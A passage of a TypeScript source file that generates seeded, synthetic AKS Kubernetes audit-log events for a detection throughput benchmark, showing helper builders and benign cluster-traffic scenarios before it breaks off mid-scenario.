import { auditEvent, container, cronJobObject, podObject, workloadObject } from '../shared/detection/exampleEvents';
import { SeededRandom } from './seededRandom';

/**
 * A seeded generator of realistic AKS audit traffic for the throughput benchmark: mostly the chatter of
 * the cluster itself (kubelet status patches, leader-election leases, controllers creating and binding
 * pods, add-ons watching, AKS service calls), some developer `kubectl apply`, and a sprinkling of
 * attacks spread over many rules, wrapped as the Event Hubs messages AKS diagnostic settings send.
 * The same seed gives the same messages, byte for byte.
 */

export interface AuditTrafficOptions {
  /** Audit events to generate; the klog records come on top. */
  events: number;
  /** Seed of the PRNG (default 1). */
  seed?: number;
  /** Share of attack events (default 0.05). */
  attackShare?: number;
  /** Share of `kube-apiserver` klog records among the diagnostic records (default 0.01). */
  klogShare?: number;
  /** Diagnostic records per Event Hubs message (default 20 to 60). */
  recordsPerMessage?: { min: number; max: number };
  /** Mean time between two events, all clusters together (default 10 ms: 100 events/s); the gaps are uniform in [0, 2 x mean]. */
  meanGapInMicroseconds?: number;
  /**
   * What a cluster does when nobody works on it (default false): no developer reads or writes, each app's Deployment
   * applied once by the cluster's GitOps controller, and the pods the ReplicaSet controller creates are those of each
   * app's one ReplicaSet, with the same template every time (the default mix gives every pod a template of its own: a
   * rollout per pod, rich for detection, unlike steady traffic).
   */
  quiet?: boolean;
}

export interface AuditTraffic {
  /** The Event Hubs messages, serialized as the hub delivers them. */
  messages: string[];
  /** Audit events in the messages. */
  events: number;
  /** `kube-apiserver` klog records in the messages (not audit events: the decoder skips them). */
  klogRecords: number;
  /** Total length of the messages in characters (ASCII: bytes). */
  characters: number;
  /** Length of each audit event's JSON (`properties.log` without the newline), in generation order. */
  eventSizes: number[];
  /** The scenario of every audit event by audit id, to tell findings on attacks from findings on benign traffic. */
  scenarioByAuditId: ReadonlyMap<string, ScenarioName>;
  /** Events per scenario. */
  scenarioCounts: Record<string, number>;
}

export const DEFAULT_SEED = 1;
const MIN_EVENT_SIZE_IN_CHARS = 1024;
const MAX_EVENT_SIZE_IN_CHARS = 20 * 1024;


type Json = Record<string, unknown>;

interface Cluster {
  resourceId: string;
  nodes: string[];
  nodeIps: string[];
  apiServerPods: string[];
  kubernetesVersion: string;
  gitCommit: string;
}

interface ScenarioContext {
  random: SeededRandom;
  cluster: Cluster;
  auditID: string;
  time: string;
  /** AuditTrafficOptions.quiet. */
  quiet: boolean;
}

/** What a scenario builds: the event and, optionally, where realistic padding goes to reach the drawn size. */
interface BuiltEvent {
  event: Json;
  /** A list inside the event that can take more items of the same kind (images, env vars, data lines, ...). */
  padding?: { list: unknown[]; unit: (index: number) => unknown };
  /** Recomputes what derives from the padded content (kubectl's last-applied annotation), after each padding step. */
  finish?: () => void;
}

interface Scenario {
  name: string;
  /** Relative frequency within its class (benign or attack). */
  weight: number;
  /** Range of the event's JSON size in characters. */
  sizeInChars: readonly [number, number];
  build: (context: ScenarioContext) => BuiltEvent;
}

// ---------------------------------------------------------------------------------------------------------
// Identities and shared fragments

const CONTROL_PLANE_IP = '172.31.22.4';
/** The quiet mix's GitOps controller pod (Flux's kustomize-controller). */
const GITOPS_CONTROLLER_IP = '10.244.0.17';
const DEVELOPERS = ['dana@contoso.com', 'lee@contoso.com', 'priya@contoso.com', 'sam@contoso.com', 'jo@contoso.com'];
const APP_NAMESPACES = ['shop', 'payments', 'catalog', 'web', 'analytics', 'default'];
const APP_NAMES = ['web', 'api', 'cart', 'checkout', 'search', 'worker', 'gateway', 'orders', 'inventory', 'reports'];
const ADDON_IMAGES = [
  'mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.30.6-hotfix.20241015',
  'mcr.microsoft.com/azuremonitor/containerinsights/ciprod:3.1.24',
  'mcr.microsoft.com/oss/kubernetes/coredns:v1.11.3-1',
  'mcr.microsoft.com/oss/kubernetes/metrics-server:v0.7.2',
  'mcr.microsoft.com/oss/kubernetes/apiserver-network-proxy/agent:v0.30.3-hotfix.20240819',
  'mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi:v1.30.5',
  'mcr.microsoft.com/oss/kubernetes-csi/azurefile-csi:v1.30.6',
  'mcr.microsoft.com/containernetworking/azure-cns:v1.6.13',
];

function kubeUserAgent(cluster: Cluster, component: string, suffix = ''): string {
  return `${component}/${cluster.kubernetesVersion} (linux/amd64) kubernetes/${cluster.gitCommit}${suffix}`;
}

function serviceAccountUser(random: SeededRandom, namespace: string, name: string, cluster: Cluster): Json {
  return {
    username: `system:serviceaccount:${namespace}:${name}`,
    uid: random.uuid(),
    groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
    extra: {
      'authentication.kubernetes.io/credential-id': [`JTI=${random.uuid()}`],
      'authentication.kubernetes.io/node-name': [random.pick(cluster.nodes)],
      'authentication.kubernetes.io/node-uid': [random.uuid()],
      'authentication.kubernetes.io/pod-name': [`${name}-${random.suffix(10)}-${random.suffix(5)}`],
      'authentication.kubernetes.io/pod-uid': [random.uuid()],
    },
  };
}

function nodeUser(node: string): Json {
  return { username: `system:node:${node}`, groups: ['system:nodes', 'system:authenticated'] };
}

function developerUser(random: SeededRandom, username = random.pick(DEVELOPERS)): Json {
  return {
    username,
    uid: random.uuid(),
    // Entra ID users are often in many groups; the token lists them all.
    groups: ['system:authenticated', ...Array.from({ length: random.int(2, 14) }, () => random.uuid())],
    extra: { oid: [random.uuid()], scopes: ['user.read'] },
  };
}

/** The builder's event with the extra realism the builder leaves out (stage time, user extras, latency annotations). */
function event(context: ScenarioContext, fields: Parameters<typeof auditEvent>[0], extras: { user?: Json } = {}): Json {
  const built = auditEvent({ ...fields, auditID: context.auditID, time: context.time });
  const latencyInMs = context.random.int(1, 40);
  built.stageTimestamp = addMicroseconds(context.time, latencyInMs * 1000 + context.random.int(0, 999));
  if (extras.user !== undefined) built.user = extras.user;
  const objectRef = built.objectRef as Json | undefined;
  if (objectRef !== undefined && fields.verb !== 'create' && fields.name !== undefined) {
    objectRef.resourceVersion = String(context.random.int(1_000_000, 99_999_999));
  }
  const annotations = built.annotations as Json;
  if (annotations['authorization.k8s.io/decision'] === 'allow') annotations['authorization.k8s.io/reason'] = authorizationReason(String((built.user as Json).username));
  built.annotations = {
    ...annotations,
    ...(latencyInMs > 25
      ? {
          'apiserver.latency.k8s.io/etcd': `${latencyInMs - 3}.${context.random.int(100, 999)}ms`,
          'apiserver.latency.k8s.io/response-write': `${context.random.int(10, 90)}µs`,
          'apiserver.latency.k8s.io/total': `${latencyInMs}.${context.random.int(100, 999)}ms`,
        }
      : {}),
  };
  return built;
}

/** What RBAC says when it allows the request, as the API server writes it. */
function authorizationReason(username: string): string {
  if (username.startsWith('system:node:')) return '';
  const account = username.startsWith('system:serviceaccount:') ? username.split(':') : undefined;
  if (account !== undefined) {
    const [, , namespace = '', name = ''] = account;
    const role = namespace === 'kube-system' ? `system:controller:${name}` : `${namespace}-${name}`;
    return `RBAC: allowed by ClusterRoleBinding "${role}" of ClusterRole "${role}" to ServiceAccount "${name}/${namespace}"`;
  }
  if (username.startsWith('system:')) return `RBAC: allowed by ClusterRoleBinding "${username}" of ClusterRole "${username}" to User "${username}"`;
  if (['aksService', 'masterclient', 'nodeclient'].includes(username)) return '';
  return `RBAC: allowed by ClusterRoleBinding "aks-cluster-developers" of ClusterRole "edit" to Group "a5d6e7f8-aaaa-4bbb-8ccc-0000000000ed"`;
}

function managedFields(random: SeededRandom, manager: string, operation: string, time: string, fields: Json): Json {
  return { manager, operation, apiVersion: 'v1', time: time.replace(/\.\d+Z$/, 'Z'), fieldsType: 'FieldsV1', fieldsV1: fields, ...(random.chance(0.3) ? { subresource: 'status' } : {}) };
}

function objectMeta(random: SeededRandom, name: string, namespace: string | undefined, time: string, extra: Json = {}): Json {
  return {
    name,
    ...(namespace === undefined ? {} : { namespace }),
    uid: random.uuid(),
    resourceVersion: String(random.int(1_000_000, 99_999_999)),
    creationTimestamp: time.replace(/\.\d+Z$/, 'Z'),
    ...extra,
  };
}

function envVar(random: SeededRandom, index: number): Json {
  const names = ['LOG_LEVEL', 'ASPNETCORE_URLS', 'OTEL_EXPORTER_OTLP_ENDPOINT', 'FEATURE_FLAGS', 'CACHE_TTL_SECONDS', 'REGION', 'HTTP_PORT', 'SERVICE_NAME', 'MAX_CONNECTIONS', 'DOTNET_gcServer'];
  const name = `${random.pick(names)}_${index}`;
  if (random.chance(0.2)) return { name, valueFrom: { fieldRef: { apiVersion: 'v1', fieldPath: random.pick(['metadata.name', 'metadata.namespace', 'status.podIP', 'spec.nodeName']) } } };
  return { name, value: random.pick(['info', 'http://+:8080', 'http://otel-collector.monitoring:4317', 'checkout-v2,search-beta', '300', 'westeurope', '8080', `svc-${random.suffix(6)}`, '200', '1']) };
}

/** A realistic application pod spec: probes, resources, env, projected token volume, restricted security context. */
function appPodSpec(random: SeededRandom, app: string, envCount = random.int(3, 12)): Json {
  const env: Json[] = [];
  for (let i = 0; i < envCount; i++) env.push(envVar(random, i));
  return {
    containers: [
      container({
        name: app,
        image: `contoso.azurecr.io/shop/${app}:1.${random.int(0, 40)}.${random.int(0, 9)}`,
        ports: [{ name: 'http', containerPort: 8080, protocol: 'TCP' }],
        env,
        resources: { limits: { cpu: '500m', memory: '512Mi' }, requests: { cpu: '100m', memory: '128Mi' } },
        livenessProbe: { httpGet: { path: '/healthz', port: 8080, scheme: 'HTTP' }, initialDelaySeconds: 10, periodSeconds: 10, timeoutSeconds: 1, failureThreshold: 3, successThreshold: 1 },
        readinessProbe: { httpGet: { path: '/ready', port: 8080, scheme: 'HTTP' }, periodSeconds: 5, timeoutSeconds: 1, failureThreshold: 3, successThreshold: 1 },
        volumeMounts: [{ name: `kube-api-access-${random.suffix(5)}`, readOnly: true, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' }],
        securityContext: { runAsNonRoot: true, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } },
        terminationMessagePath: '/dev/termination-log',
        terminationMessagePolicy: 'File',
        imagePullPolicy: 'IfNotPresent',
      }),
    ],
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    serviceAccountName: app,
    serviceAccount: app,
    securityContext: { runAsUser: 10001, fsGroup: 2000, seccompProfile: { type: 'RuntimeDefault' } },
    schedulerName: 'default-scheduler',
    tolerations: [
      { key: 'node.kubernetes.io/not-ready', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
      { key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
    ],
    volumes: [
      {
        name: `kube-api-access-${random.suffix(5)}`,
        projected: {
          sources: [
            { serviceAccountToken: { expirationSeconds: 3607, path: 'token' } },
            { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } },
            { downwardAPI: { items: [{ path: 'namespace', fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.namespace' } }] } },
          ],
          defaultMode: 420,
        },
      },
    ],
    enableServiceLinks: true,
    preemptionPolicy: 'PreemptLowerPriority',
    priority: 0,
  };
}

/** Each app's one ReplicaSet per cluster in the quiet mix: its hash and pod template, drawn once from its own seed. */
interface StableReplicaSet {
  hash: string;
  template: string;
  /** Whether its Deployment's create was sent. */
  applied: boolean;
}

const stableReplicaSets = new WeakMap<Cluster, Map<string, StableReplicaSet>>();

function stableReplicaSetOf(cluster: Cluster, namespace: string, app: string, addon: boolean): StableReplicaSet {
  let byApp = stableReplicaSets.get(cluster);
  if (byApp === undefined) stableReplicaSets.set(cluster, (byApp = new Map<string, StableReplicaSet>()));
  const key = `${namespace}/${app}`;
  let stable = byApp.get(key);
  if (stable === undefined) {
    const random = new SeededRandom(hashOf(`${cluster.resourceId}/${key}`));
    const spec = appPodSpec(random, app, random.int(3, 60));
    if (addon) (spec.containers as Json[])[0] = { ...(spec.containers as Json[])[0], image: random.pick(ADDON_IMAGES) };
    stable = { hash: random.suffix(10), template: JSON.stringify(spec), applied: false };
    byApp.set(key, stable);
  }
  return stable;
}

/** A GitOps controller's create of a Deployment (Flux's kustomize-controller), as the quiet mix's first sight of an app. */
function deploymentAppliedByCd(context: ScenarioContext, namespace: string, app: string, spec: Json): BuiltEvent {
  const { random, time } = context;
  const object = workloadObject('deployments', spec, app, namespace);
  const response = { ...object, metadata: { ...objectMeta(random, app, namespace, time), managedFields: [managedFieldsUnit(random, time)(0)] } };
  return {
    event: event(
      context,
      {
        verb: 'create',
        resource: 'deployments',
        apiGroup: 'apps',
        namespace,
        requestURI: `/apis/apps/v1/namespaces/${namespace}/deployments?fieldManager=kustomize-controller`,
        userAgent: 'kustomize-controller/v1.4.0',
        // The controller's pod: one address per cluster.
        sourceIP: GITOPS_CONTROLLER_IP,
        requestObject: object,
        responseObject: response,
      },
      { user: { username: 'system:serviceaccount:flux-system:kustomize-controller', uid: random.uuid(), groups: ['system:serviceaccounts', 'system:serviceaccounts:flux-system', 'system:authenticated'] } },
    ),
  };
}

/** A 31-bit seed from a text (FNV-1a). */
function hashOf(text: string): number {
  let hash = 0x811c9dc5;
  for (let index = 0; index < text.length; index++) hash = Math.imul(hash ^ text.charCodeAt(index), 0x01000193);
  return (hash >>> 1) || 1;
}

function podEnv(spec: Json): unknown[] {
  const containers = spec.containers as Json[];
  return (containers[0]?.env as unknown[] | undefined) ?? [];
}

function managedFieldsUnit(random: SeededRandom, time: string): (index: number) => unknown {
  return (index) =>
    managedFields(random, random.pick(['kubectl-client-side-apply', 'kube-controller-manager', 'helm', 'kubelet', 'argocd-controller']), 'Update', time, {
      'f:metadata': { 'f:labels': { [`f:app.kubernetes.io/part-${index}`]: {} }, 'f:annotations': { '.': {}, [`f:deployment.kubernetes.io/revision-${index}`]: {} } },
      'f:spec': { 'f:template': { 'f:spec': { 'f:containers': { [`k:{"name":"c${index}"}`]: { '.': {}, 'f:image': {}, 'f:imagePullPolicy': {}, 'f:name': {}, 'f:resources': {} } } } } },
    });
}

// ---------------------------------------------------------------------------------------------------------
// Benign scenarios

const benignScenarios: readonly Scenario[] = [
  {
    name: 'kubelet-node-status-patch',
    weight: 10,
    sizeInChars: [4_000, 19_000],
    build: (context) => {
      const { random, cluster, time } = context;
      const index = random.int(0, cluster.nodes.length - 1);
      const node = cluster.nodes[index] ?? '';
      const heartbeat = time.replace(/\.\d+Z$/, 'Z');
      const conditions = ['MemoryPressure', 'DiskPressure', 'PIDPressure', 'Ready'].map((type) => ({ lastHeartbeatTime: heartbeat, type }));
      const images: Json[] = [];
      const response = {
        kind: 'Node',
        apiVersion: 'v1',
        metadata: objectMeta(random, node, undefined, '2026-10-20T08:12:44Z', {
          labels: {
            agentpool: 'nodepool1',
            'beta.kubernetes.io/arch': 'amd64',
            'beta.kubernetes.io/instance-type': 'Standard_D4s_v5',
            'beta.kubernetes.io/os': 'linux',
            'failure-domain.beta.kubernetes.io/region': 'westeurope',
            'failure-domain.beta.kubernetes.io/zone': '0',
            'kubernetes.azure.com/agentpool': 'nodepool1',
            'kubernetes.azure.com/cluster': `MC_rg-shop-prod_${cluster.resourceId.split('/').pop() ?? ''}_westeurope`,
            'kubernetes.azure.com/mode': 'system',
            'kubernetes.azure.com/node-image-version': 'AKSUbuntu-2204gen2containerd-202410.15.0',
            'kubernetes.azure.com/os-sku': 'Ubuntu',
            'kubernetes.io/hostname': node,
            'node.kubernetes.io/instance-type': 'Standard_D4s_v5',
            'topology.kubernetes.io/region': 'westeurope',
          },
          annotations: { 'csi.volume.kubernetes.io/nodeid': `{"disk.csi.azure.com":"${node}","file.csi.azure.com":"${node}"}`, 'node.alpha.kubernetes.io/ttl': '0', 'volumes.kubernetes.io/controller-managed-attach-detach': 'true' },
        }),
        spec: { podCIDR: `10.244.${index}.0/24`, providerID: `azure:///subscriptions/${random.uuid()}/resourceGroups/mc_rg/providers/Microsoft.Compute/virtualMachineScaleSets/aks-nodepool1-vmss/virtualMachines/${index}` },
        status: {
          capacity: { cpu: '4', 'ephemeral-storage': '129886128Ki', memory: '16365960Ki', pods: '110' },
          allocatable: { cpu: '3860m', 'ephemeral-storage': '119703055367', memory: '12880776Ki', pods: '110' },
          conditions: conditions.map((condition) => ({ ...condition, status: condition.type === 'Ready' ? 'True' : 'False', lastTransitionTime: '2026-10-20T08:13:10Z', reason: `Kubelet${condition.type === 'Ready' ? 'Ready' : 'Has' + condition.type}`, message: 'kubelet is posting ready status' })),
          addresses: [{ type: 'InternalIP', address: cluster.nodeIps[index] ?? '10.224.0.4' }, { type: 'Hostname', address: node }],
          daemonEndpoints: { kubeletEndpoint: { Port: 10250 } },
          nodeInfo: { machineID: random.hex(32), systemUUID: random.uuid(), bootID: random.uuid(), kernelVersion: '5.15.0-1073-azure', osImage: 'Ubuntu 22.04.5 LTS', containerRuntimeVersion: 'containerd://1.7.22-1', kubeletVersion: cluster.kubernetesVersion, kubeProxyVersion: cluster.kubernetesVersion, operatingSystem: 'linux', architecture: 'amd64' },
          images,
        },
      };
      return {
        event: event(
          context,
          {
            verb: 'patch',
            resource: 'nodes',
            subresource: 'status',
            name: node,
            requestURI: `/api/v1/nodes/${node}/status?timeout=10s`,
            userAgent: kubeUserAgent(cluster, 'kubelet'),
            sourceIP: cluster.nodeIps[index],
            requestObject: { status: { '$setElementOrder/conditions': conditions.map(({ type }) => ({ type })), conditions } },
            responseObject: response,
          },
          { user: nodeUser(node) },
        ),
        padding: {
          list: images,
          unit: () => {
            const repository = random.pick(['mcr.microsoft.com/oss/kubernetes/kube-proxy', 'mcr.microsoft.com/azuremonitor/containerinsights/ciprod', 'contoso.azurecr.io/shop/web', 'mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi', 'docker.io/library/nginx']);
            const digest = random.hex(64);
            return { names: [`${repository}@sha256:${digest}`, `${repository}:v1.${random.int(0, 30)}.${random.int(0, 9)}`], sizeBytes: random.int(5_000_000, 900_000_000) };
          },
        },
      };
    },
  },
  {
    name: 'lease-renewal',
    weight: 24,
    sizeInChars: [1_400, 2_400],
    build: (context) => {
      const { random, cluster, time } = context;
      const holder = random.int(0, 3);
      const node = random.pick(cluster.nodes);
      const [user, namespace, name, agent]: [Json, string, string, string] =
        holder === 0
          ? [{ username: 'system:kube-controller-manager', groups: ['system:authenticated'] }, 'kube-system', 'kube-controller-manager', kubeUserAgent(cluster, 'kube-controller-manager', '/leader-election')]
          : holder === 1
            ? [{ username: 'system:kube-scheduler', groups: ['system:authenticated'] }, 'kube-system', 'kube-scheduler', kubeUserAgent(cluster, 'kube-scheduler', '/leader-election')]
            : [nodeUser(node), 'kube-node-lease', node, kubeUserAgent(cluster, 'kubelet')];
      const lease = {
        kind: 'Lease',
        apiVersion: 'coordination.k8s.io/v1',
        metadata: objectMeta(random, name, namespace, '2026-10-20T08:12:44Z', { managedFields: [managedFields(random, agent.split('/')[0] ?? 'kubelet', 'Update', time, { 'f:spec': { 'f:acquireTime': {}, 'f:holderIdentity': {}, 'f:leaseDurationSeconds': {}, 'f:leaseTransitions': {}, 'f:renewTime': {} } })] }),
        spec: { holderIdentity: holder < 2 ? `${random.pick(cluster.apiServerPods)}_${random.uuid()}` : name, leaseDurationSeconds: holder < 2 ? 15 : 40, acquireTime: '2026-10-20T08:13:01.000000Z', renewTime: time, leaseTransitions: random.int(0, 12) },
      };
      return {
        event: event(
          context,
          {
            verb: 'update',
            resource: 'leases',
            apiGroup: 'coordination.k8s.io',
            namespace,
            name,
            requestURI: `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases/${name}?timeout=5s`,
            userAgent: agent,
            sourceIP: holder < 2 ? CONTROL_PLANE_IP : cluster.nodeIps[cluster.nodes.indexOf(node)],
            requestObject: lease,
            responseObject: lease,
          },
          { user },
        ),
      };
    },
  },
  {
    name: 'controller-read',
    weight: 26,
    sizeInChars: [1_024, 1_600],
    build: (context) => {
      const { random, cluster } = context;
      const [username, resource, namespace] = random.pick([
        ['system:serviceaccount:kube-system:ama-logs', 'pods', undefined],
        ['system:serviceaccount:kube-system:ama-logs', 'configmaps', 'kube-system'],
        ['system:serviceaccount:kube-system:coredns', 'endpointslices', undefined],
        ['system:serviceaccount:kube-system:coredns', 'services', undefined],
        ['system:serviceaccount:kube-system:metrics-server', 'nodes', undefined],
        ['system:serviceaccount:kube-system:metrics-server', 'pods', undefined],
        ['system:serviceaccount:kube-system:konnectivity-agent', 'leases', 'kube-system'],
        ['system:serviceaccount:kube-system:endpoint-controller', 'endpoints', random.pick(APP_NAMESPACES)],
        ['system:serviceaccount:kube-system:replicaset-controller', 'pods', random.pick(APP_NAMESPACES)],
        ['system:kube-controller-manager', 'configmaps', 'kube-system'],
        ['system:kube-scheduler', 'pods', undefined],
      ] as const);
      const verb = random.pick(['get', 'list', 'watch', 'watch']);
      const serviceAccount = username.startsWith('system:serviceaccount:');
      const component = username.split(':').pop() ?? 'client';
      const group = resource === 'endpointslices' ? 'discovery.k8s.io' : resource === 'leases' ? 'coordination.k8s.io' : '';
      const name = verb === 'get' ? (resource === 'configmaps' ? random.pick(['extension-apiserver-authentication', 'kube-root-ca.crt', 'container-azm-ms-agentconfig']) : `${component}-${random.suffix(5)}`) : undefined;
      const base = group === '' ? '/api/v1' : `/apis/${group}/v1`;
      const path = `${base}${namespace === undefined ? '' : `/namespaces/${namespace}`}/${resource}${name === undefined ? '' : `/${name}`}`;
      const query = verb === 'watch' ? `?allowWatchBookmarks=true&resourceVersion=${random.int(1_000_000, 99_999_999)}&timeout=${random.int(5, 9)}m${random.int(0, 59)}s&timeoutSeconds=${random.int(300, 600)}&watch=true` : verb === 'list' ? '?limit=500&resourceVersion=0' : '';
      return {
        event: event(
          context,
          {
            verb,
            resource,
            apiGroup: group,
            ...(namespace === undefined ? {} : { namespace }),
            ...(name === undefined ? {} : { name }),
            requestURI: path + query,
            userAgent: serviceAccount ? `${component}/v0.0.0 (linux/amd64) kubernetes/$Format` : kubeUserAgent(cluster, component, '/shared-informers'),
            sourceIP: serviceAccount ? random.pick(cluster.nodeIps) : CONTROL_PLANE_IP,
          },
          { user: serviceAccount ? serviceAccountUser(random, 'kube-system', component, cluster) : { username, groups: ['system:authenticated'] } },
        ),
      };
    },
  },
  {
    name: 'replicaset-creates-pod',
    weight: 5,
    sizeInChars: [5_000, 16_000],
    build: (context) => {
      const { random, cluster, time } = context;
      const addon = random.chance(0.3);
      const app = addon ? random.pick(['coredns', 'metrics-server', 'konnectivity-agent', 'ama-logs-rs']) : random.pick(APP_NAMES);
      const namespace = addon ? 'kube-system' : random.pick(APP_NAMESPACES);
      const stable = context.quiet ? stableReplicaSetOf(cluster, namespace, app, addon) : undefined;
      // The cluster's CD tool applied each Deployment once, before its pods appear (its own write: the inventory's owner).
      if (stable !== undefined && !stable.applied) {
        stable.applied = true;
        return deploymentAppliedByCd(context, namespace, app, JSON.parse(stable.template) as Json);
      }
      const hash = stable?.hash ?? random.suffix(10);
      const name = `${app}-${hash}-${random.suffix(5)}`;
      const spec = stable === undefined ? appPodSpec(random, app) : (JSON.parse(stable.template) as Json);
      if (addon && stable === undefined) (spec.containers as Json[])[0] = { ...(spec.containers as Json[])[0], image: random.pick(ADDON_IMAGES) };
      const owner = { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `${app}-${hash}`, uid: random.uuid(), controller: true, blockOwnerDeletion: true };
      const pod = podObject(spec, name, namespace);
      pod.metadata = { ...(pod.metadata as Json), generateName: `${app}-${hash}-`, labels: { app, 'pod-template-hash': hash }, ownerReferences: [owner] };
      const response = { ...pod, metadata: { ...objectMeta(random, name, namespace, time), generateName: `${app}-${hash}-`, labels: { app, 'pod-template-hash': hash }, ownerReferences: [owner], managedFields: [managedFieldsUnit(random, time)(0)] }, status: { phase: 'Pending', qosClass: 'Burstable' } };
      return {
        event: event(
          context,
          { verb: 'create', resource: 'pods', namespace, requestURI: `/api/v1/namespaces/${namespace}/pods`, userAgent: kubeUserAgent(cluster, 'kube-controller-manager', '/system:serviceaccount:kube-system:replicaset-controller'), sourceIP: CONTROL_PLANE_IP, requestObject: pod, responseObject: response },
          { user: { username: 'system:serviceaccount:kube-system:replicaset-controller', uid: random.uuid(), groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'] } },
        ),
        // The request and the response share the container, so each env var is logged twice.
        // A stable ReplicaSet's pods all have its template, padding included.
        ...(stable === undefined ? { padding: { list: podEnv(spec), unit: (index: number) => envVar(random, 100 + index) } } : {}),
      };
    },
  },
  {
    name: 'scheduler-binds-pod',
    weight: 5,
    sizeInChars: [1_100, 1_600],
    build: (context) => {
      const { random, cluster } = context;
      const app = random.pick(APP_NAMES);
      const namespace = random.pick(APP_NAMESPACES);
      const name = `${app}-${random.suffix(10)}-${random.suffix(5)}`;
      return {
        event: event(
          context,
          {
            verb: 'create',
            resource: 'pods',
            subresource: 'binding',
            namespace,
            name,
            requestURI: `/api/v1/namespaces/${namespace}/pods/${name}/binding`,
            userAgent: kubeUserAgent(cluster, 'kube-scheduler', '/scheduler'),
            sourceIP: CONTROL_PLANE_IP,
            requestObject: { kind: 'Binding', apiVersion: 'v1', metadata: { name, namespace, uid: random.uuid() }, target: { kind: 'Node', name: random.pick(cluster.nodes) } },
            responseObject: { kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Success', code: 201 },
          },
          { user: { username: 'system:kube-scheduler', groups: ['system:authenticated'] } },
        ),
      };
    },
  },
  {
    name: 'kubelet-pod-status-patch',
    weight: 6,
    sizeInChars: [2_500, 7_000],
    build: (context) => {
      const { random, cluster, time } = context;
      const index = random.int(0, cluster.nodes.length - 1);
      const node = cluster.nodes[index] ?? '';
      const app = random.pick(APP_NAMES);
      const namespace = random.pick(APP_NAMESPACES);
      const name = `${app}-${random.suffix(10)}-${random.suffix(5)}`;
      const stamp = time.replace(/\.\d+Z$/, 'Z');
      const statuses: Json[] = [];
      const conditions = ['PodReadyToStartContainers', 'Initialized', 'Ready', 'ContainersReady', 'PodScheduled'].map((type) => ({ type, status: 'True', lastProbeTime: null, lastTransitionTime: stamp }));
      return {
        event: event(
          context,
          {
            verb: 'patch',
            resource: 'pods',
            subresource: 'status',
            namespace,
            name,
            requestURI: `/api/v1/namespaces/${namespace}/pods/${name}/status`,
            userAgent: kubeUserAgent(cluster, 'kubelet'),
            sourceIP: cluster.nodeIps[index],
            requestObject: { metadata: { uid: random.uuid() }, status: { '$setElementOrder/conditions': conditions.map(({ type }) => ({ type })), conditions, containerStatuses: statuses, podIP: `10.244.${index}.${random.int(2, 250)}`, podIPs: [{ ip: `10.244.${index}.${random.int(2, 250)}` }] } },
            responseObject: { kind: 'Pod', apiVersion: 'v1', metadata: objectMeta(random, name, namespace, stamp, { labels: { app } }), status: { phase: 'Running', conditions, hostIP: cluster.nodeIps[index], startTime: stamp, qosClass: 'Burstable' } },
          },
          { user: nodeUser(node) },
        ),
        padding: {
          list: statuses,
          unit: (i) => ({ name: `${app}-${i}`, state: { running: { startedAt: stamp } }, lastState: {}, ready: true, restartCount: random.int(0, 3), image: `contoso.azurecr.io/shop/${app}:1.${random.int(0, 40)}.0`, imageID: `contoso.azurecr.io/shop/${app}@sha256:${random.hex(64)}`, containerID: `containerd://${random.hex(64)}`, started: true, volumeMounts: [{ name: `kube-api-access-${random.suffix(5)}`, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true, recursiveReadOnly: 'Disabled' }] }),
        },
      };
    },
  },
  {
    name: 'endpointslice-update',
    weight: 4,
    sizeInChars: [1_500, 5_000],
    build: (context) => {
      const { random, cluster, time } = context;
      const app = random.pick(APP_NAMES);
      const namespace = random.pick(APP_NAMESPACES);
      const name = `${app}-${random.suffix(5)}`;
      const endpoints: Json[] = [];
      const slice = { kind: 'EndpointSlice', apiVersion: 'discovery.k8s.io/v1', metadata: objectMeta(random, name, namespace, time, { generateName: `${app}-`, labels: { 'endpointslice.kubernetes.io/managed-by': 'endpointslice-controller.k8s.io', 'kubernetes.io/service-name': app } }), addressType: 'IPv4', endpoints, ports: [{ name: 'http', protocol: 'TCP', port: 8080 }] };
      return {
        event: event(
          context,
          { verb: 'update', resource: 'endpointslices', apiGroup: 'discovery.k8s.io', namespace, name, userAgent: kubeUserAgent(cluster, 'kube-controller-manager', '/system:serviceaccount:kube-system:endpointslice-controller'), sourceIP: CONTROL_PLANE_IP, requestObject: slice, responseObject: slice },
          { user: { username: 'system:serviceaccount:kube-system:endpointslice-controller', uid: random.uuid(), groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'] } },
        ),
        padding: { list: endpoints, unit: () => ({ addresses: [`10.244.${random.int(0, 5)}.${random.int(2, 250)}`], conditions: { ready: true, serving: true, terminating: false }, targetRef: { kind: 'Pod', namespace, name: `${app}-${random.suffix(10)}-${random.suffix(5)}`, uid: random.uuid() }, nodeName: random.pick(cluster.nodes), zone: '0' }) },
      };
    },
  },
  {
    name: 'aks-service-call',
    weight: 8,
    sizeInChars: [1_024, 3_000],
    build: (context) => {
      const { random, cluster, time } = context;
      const username = random.pick(['aksService', 'masterclient', 'nodeclient']);
      const data: Json = { 'upgrade-state': 'Succeeded', 'target-version': cluster.kubernetesVersion };
      const padding: BuiltEvent['padding'] = {
        list: [],
        unit: (index) => (data[`history-${index}`] = `{"from":"v1.29.${random.int(0, 9)}","to":"${cluster.kubernetesVersion}","at":"${time.slice(0, 19)}Z","operation":"${random.uuid()}"}`),
      };
      const objects: [string, string, string | undefined, string, Json][] = [
        ['patch', 'configmaps', 'kube-system', 'overlay-upgrade-data', { apiVersion: 'v1', kind: 'ConfigMap', metadata: objectMeta(random, 'overlay-upgrade-data', 'kube-system', time), data }],
